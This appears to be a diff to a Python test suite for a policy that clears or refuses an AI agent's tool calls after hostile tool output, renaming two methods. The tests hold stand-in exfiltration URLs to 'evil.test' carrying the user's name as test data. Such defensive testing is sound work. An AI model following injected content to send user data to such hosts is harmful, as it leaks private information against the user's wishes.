@@ -26,11 +26,11 @@ HOSTILE = ToolEntry(
 
 
 def cleared(*entries: Entry, person: str = ADA, **policy: Any) -> Clearance:
-    return CallPolicy(**policy).over((SystemEntry("You help."), *entries), person, SPECS.get)
+    return CallPolicy(**policy).clear((SystemEntry("You help."), *entries), person, SPECS.get)
 
 
 def opens(clearance: Clearance, url: str) -> bool:
-    return isinstance(clearance.verdict(READ, ToolCall("a", "read_page", {"url": url})), Run)
+    return isinstance(clearance.judge(READ, ToolCall("a", "read_page", {"url": url})), Run)
 
 
 def searched(
@@ -46,7 +46,7 @@ def test_without_words_from_outside_every_address_is_opened() -> None:
 
     assert opens(clearance, LEAK)
     assert not clearance.withholds(SEND)
-    assert isinstance(clearance.verdict(SEND, ToolCall("a", "mail_send", {})), Run)
+    assert isinstance(clearance.judge(SEND, ToolCall("a", "mail_send", {})), Run)
 
 
 @pytest.mark.parametrize(
@@ -66,14 +66,14 @@ def test_words_from_outside_close_what_the_model_makes_up(
     caplog.set_level(logging.INFO)
     clearance = cleared(*before, UserEntry("Please go on", ADA))
 
-    verdict = clearance.verdict(READ, ToolCall("a", "read_page", {"url": LEAK}))
+    verdict = clearance.judge(READ, ToolCall("a", "read_page", {"url": LEAK}))
 
     assert isinstance(verdict, Refuse) and "ask the person" in verdict.reason and "evil" not in verdict.reason
     assert "'evil.test'" in caplog.text and "Ada" not in caplog.text
     assert clearance.withholds(SEND)
-    refused = clearance.verdict(SEND, ToolCall("a", "mail_send", {"to": "me"}))
+    refused = clearance.judge(SEND, ToolCall("a", "mail_send", {"to": "me"}))
     assert isinstance(refused, Refuse) and "new" in refused.reason
-    assert isinstance(clearance.verdict(SEARCH, ToolCall("a", "search_web", {"query": LEAK})), Run)
+    assert isinstance(clearance.judge(SEARCH, ToolCall("a", "search_web", {"query": LEAK})), Run)
 
 
 BROUGHT: list[tuple[list[Entry], str]] = [
@@ -181,8 +181,8 @@ def test_a_page_of_a_listed_host_may_not_send_on_to_others() -> None:
     """What the model put into the address could go with it; where somebody brought the address, nothing of hers can."""
     clearance = cleared(*searched("See https://brought.test/a"), UserEntry("Go on", ADA), hosts=("docs.test",))
 
-    listed = clearance.verdict(READ, ToolCall("a", "read_page", {"url": "https://docs.test/go?to=evil.test&q=Ada"}))
-    brought = clearance.verdict(READ, ToolCall("a", "read_page", {"url": "https://brought.test/a"}))
+    listed = clearance.judge(READ, ToolCall("a", "read_page", {"url": "https://docs.test/go?to=evil.test&q=Ada"}))
+    brought = clearance.judge(READ, ToolCall("a", "read_page", {"url": "https://brought.test/a"}))
 
     assert isinstance(listed, Run) and isinstance(brought, Run)
     assert not listed.follow("https://evil.test/?q=Ada")
@@ -194,7 +194,7 @@ def test_a_listed_tool_is_never_withheld() -> None:
     clearance = cleared(HOSTILE, UserEntry("Go on", ADA), tools=("mail_*",))
 
     assert not clearance.withholds(SEND)
-    assert isinstance(clearance.verdict(SEND, ToolCall("a", "mail_send", {})), Run)
+    assert isinstance(clearance.judge(SEND, ToolCall("a", "mail_send", {})), Run)
 
 
 def test_arguments_without_an_address_are_left_to_the_registry() -> None:
@@ -205,4 +205,4 @@ def test_arguments_without_an_address_are_left_to_the_registry() -> None:
         ({"url": ["https://a.b"]}, Refuse),
     ]
     for arguments, verdict in cases:
-        assert isinstance(cleared(HOSTILE).verdict(READ, ToolCall("a", "read_page", arguments)), verdict)
+        assert isinstance(cleared(HOSTILE).judge(READ, ToolCall("a", "read_page", arguments)), verdict)
